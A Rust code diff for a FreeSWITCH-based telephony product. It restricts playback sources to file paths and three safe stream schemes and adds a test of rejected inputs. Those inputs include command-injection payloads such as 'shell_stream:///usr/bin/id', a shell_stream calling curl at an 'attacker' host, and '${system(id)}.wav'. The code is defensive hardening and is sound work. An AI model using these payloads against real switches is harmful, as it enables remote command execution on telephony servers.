@@ -71,25 +71,159 @@ impl TryFrom<String> for MediaSource {
     }
 }
 
-/// A playback source: not empty, at most 512 bytes, no whitespace or control character (it
-/// would end the sendmsg header or the argument) and no `{`/`}` (a variable block).
-fn check_media_source(what: &str, value: &str) -> Result<(), String> {
+/// The `scheme://` sources the switch may be asked to play. FreeSWITCH picks a file module by
+/// the part before `://`, and some run commands (`shell_stream://`) or fetch from anywhere
+/// (`http://`, which this product does not set up through mod_httapi): only these are allowed.
+pub const SOUND_SCHEMES: [&str; 3] = ["local_stream", "tone_stream", "silence_stream"];
+
+/// What is wrong with a sound source, if anything: it must be a plain file path (no `:`, so no
+/// `scheme://` and no `say:`/`phrase:` prefix) or one of [`SOUND_SCHEMES`]; not empty, at most
+/// 512 bytes, no whitespace or control character (it would end the sendmsg header or the
+/// argument), no `{`/`}` (a variable block) and no `$` (a variable expansion). The ESL command
+/// layer applies the same check again before anything reaches the switch.
+pub fn sound_source_problem(value: &str) -> Option<String> {
     const MAX: usize = 512;
     if value.is_empty() {
-        return Err(format!("{what} must not be empty"));
+        return Some("must not be empty".into());
     }
     if value.len() > MAX {
-        return Err(format!("{value:?} is longer than {MAX} characters"));
+        return Some(format!("is longer than {MAX} characters"));
     }
     if let Some(c) = value
         .chars()
-        .find(|&c| c.is_control() || c.is_whitespace() || matches!(c, '{' | '}'))
+        .find(|&c| c.is_control() || c.is_whitespace() || matches!(c, '{' | '}' | '$'))
     {
-        return Err(format!(
-            "{value:?} is not a usable sound source: {c:?} is not allowed"
+        return Some(format!(
+            "is not a usable sound source: {c:?} is not allowed"
         ));
     }
-    Ok(())
+    match value.split_once("://") {
+        Some((scheme, _)) if SOUND_SCHEMES.contains(&scheme) => None,
+        Some((scheme, _)) => Some(format!(
+            "is not a usable sound source: {scheme}:// is not allowed; use a file path or {}",
+            SOUND_SCHEMES.map(|s| format!("{s}://")).join(", ")
+        )),
+        None if value.contains(':') => Some(format!(
+            "is not a usable sound source: a file path has no ':'; use a file path or {}",
+            SOUND_SCHEMES.map(|s| format!("{s}://")).join(", ")
+        )),
+        None => None,
+    }
+}
+
+/// Characters besides ASCII letters and digits that one word of a switch command may hold, per
+/// kind of value. The ESL command layer ([`is_switch_word`] in `esl::command::check_token`)
+/// refuses anything else, so the flow loader checks literals against the same sets.
+pub const EXTENSION_CHARS: &str = "*#+._-";
+pub const CONTEXT_CHARS: &str = "._-";
+pub const MAILBOX_CHARS: &str = "._-";
+pub const VOICEMAIL_DOMAIN_CHARS: &str = ".-";
+pub const HANGUP_CAUSE_CHARS: &str = "_";
+/// `.` for amounts (`12.50`); no `,`, space or line break.
+pub const SAY_TEXT_CHARS: &str = ".";
+
+/// One word for a switch command line: 1 to 128 ASCII letters, digits and `extra` characters,
+/// so it can neither split the command nor smuggle options.
+pub fn is_switch_word(value: &str, extra: &str) -> bool {
+    !value.is_empty()
+        && value.len() <= 128
+        && value
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || extra.contains(c))
+}
+
+/// The hangup causes FreeSWITCH knows by name (`switch_channel.c`, `CAUSE_CHART`); another
+/// name is not a cause the switch can hang up with.
+pub const HANGUP_CAUSES: [&str; 79] = [
+    "UNSPECIFIED",
+    "SUCCESS",
+    "NO_ROUTE_TRANSIT_NET",
+    "NO_ROUTE_DESTINATION",
+    "CHANNEL_UNACCEPTABLE",
+    "CALL_AWARDED_DELIVERED",
+    "NORMAL_CLEARING",
+    "USER_BUSY",
+    "NO_USER_RESPONSE",
+    "NO_ANSWER",
+    "SUBSCRIBER_ABSENT",
+    "CALL_REJECTED",
+    "NUMBER_CHANGED",
+    "REDIRECTION_TO_NEW_DESTINATION",
+    "EXCHANGE_ROUTING_ERROR",
+    "DESTINATION_OUT_OF_ORDER",
+    "INVALID_NUMBER_FORMAT",
+    "FACILITY_REJECTED",
+    "RESPONSE_TO_STATUS_ENQUIRY",
+    "NORMAL_UNSPECIFIED",
+    "NORMAL_CIRCUIT_CONGESTION",
+    "NETWORK_OUT_OF_ORDER",
+    "NORMAL_TEMPORARY_FAILURE",
+    "SWITCH_CONGESTION",
+    "ACCESS_INFO_DISCARDED",
+    "REQUESTED_CHAN_UNAVAIL",
+    "PRE_EMPTED",
+    "FACILITY_NOT_SUBSCRIBED",
+    "OUTGOING_CALL_BARRED",
+    "INCOMING_CALL_BARRED",
+    "BEARERCAPABILITY_NOTAUTH",
+    "BEARERCAPABILITY_NOTAVAIL",
+    "SERVICE_UNAVAILABLE",
+    "BEARERCAPABILITY_NOTIMPL",
+    "CHAN_NOT_IMPLEMENTED",
+    "FACILITY_NOT_IMPLEMENTED",
+    "SERVICE_NOT_IMPLEMENTED",
+    "INVALID_CALL_REFERENCE",
+    "INCOMPATIBLE_DESTINATION",
+    "INVALID_MSG_UNSPECIFIED",
+    "MANDATORY_IE_MISSING",
+    "MESSAGE_TYPE_NONEXIST",
+    "WRONG_MESSAGE",
+    "IE_NONEXIST",
+    "INVALID_IE_CONTENTS",
+    "WRONG_CALL_STATE",
+    "RECOVERY_ON_TIMER_EXPIRE",
+    "MANDATORY_IE_LENGTH_ERROR",
+    "PROTOCOL_ERROR",
+    "INTERWORKING",
+    "ORIGINATOR_CANCEL",
+    "CRASH",
+    "SYSTEM_SHUTDOWN",
+    "LOSE_RACE",
+    "MANAGER_REQUEST",
+    "BLIND_TRANSFER",
+    "ATTENDED_TRANSFER",
+    "ALLOTTED_TIMEOUT",
+    "USER_CHALLENGE",
+    "MEDIA_TIMEOUT",
+    "PICKED_OFF",
+    "USER_NOT_REGISTERED",
+    "PROGRESS_TIMEOUT",
+    "INVALID_GATEWAY",
+    "GATEWAY_DOWN",
+    "INVALID_URL",
+    "INVALID_PROFILE",
+    "NO_PICKUP",
+    "SRTP_READ_ERROR",
+    "BOWOUT",
+    "BUSY_EVERYWHERE",
+    "DECLINE",
+    "DOES_NOT_EXIST_ANYWHERE",
+    "NOT_ACCEPTABLE",
+    "UNWANTED",
+    "NO_IDENTITY",
+    "BAD_IDENTITY_INFO",
+    "UNSUPPORTED_CERTIFICATE",
+    "INVALID_IDENTITY",
+];
+
+/// [`sound_source_problem`] as a config error message.
+fn check_media_source(what: &str, value: &str) -> Result<(), String> {
+    match sound_source_problem(value) {
+        None => Ok(()),
+        Some(problem) if value.is_empty() => Err(format!("{what} {problem}")),
+        Some(problem) if value.len() > 512 => Err(format!("{what} {problem}")),
+        Some(problem) => Err(format!("{value:?} {problem}")),
+    }
 }
 
 /// A secret (a switch password). `Debug` prints `"***"`, and there is deliberately no
@@ -180,5 +314,46 @@ mod tests {
                 "{bad:?} accepted"
             );
         }
+    }
+
+    #[test]
+    fn only_files_and_the_local_tone_and_silence_streams_are_sound_sources() {
+        for good in [
+            "ivr/ivr-you_are_number.wav",
+            "/usr/share/freeswitch/sounds/en/us/callie/ivr/8000/ivr-welcome.wav",
+            "local_stream://moh",
+            "tone_stream://%(200,0,1400)",
+            "silence_stream://1000",
+        ] {
+            assert_eq!(sound_source_problem(good), None, "{good:?} refused");
+            assert!(MediaSource::try_from(good.to_owned()).is_ok());
+        }
+        for bad in [
+            "shell_stream:///usr/bin/id",
+            "shell_stream://curl http://attacker",
+            "http://sounds.example.com/a.wav",
+            "https://sounds.example.com/a.wav",
+            "file_string://a.wav!b.wav",
+            "SHELL_STREAM://id",
+            "phrase:voicemail_hello",
+            "say:en number pronounced 12",
+            "${system(id)}.wav",
+            "$${sounds_dir}/a.wav",
+        ] {
+            assert!(sound_source_problem(bad).is_some(), "{bad:?} accepted");
+            assert!(
+                HoldMusic::try_from(bad.to_owned()).is_err(),
+                "{bad:?} accepted as hold music"
+            );
+            assert!(
+                MediaSource::try_from(bad.to_owned()).is_err(),
+                "{bad:?} accepted as a prompt"
+            );
+        }
+        let message = MediaSource::try_from("shell_stream:///bin/id".to_owned()).unwrap_err();
+        assert!(
+            message.contains("shell_stream:// is not allowed"),
+            "{message}"
+        );
     }
 }
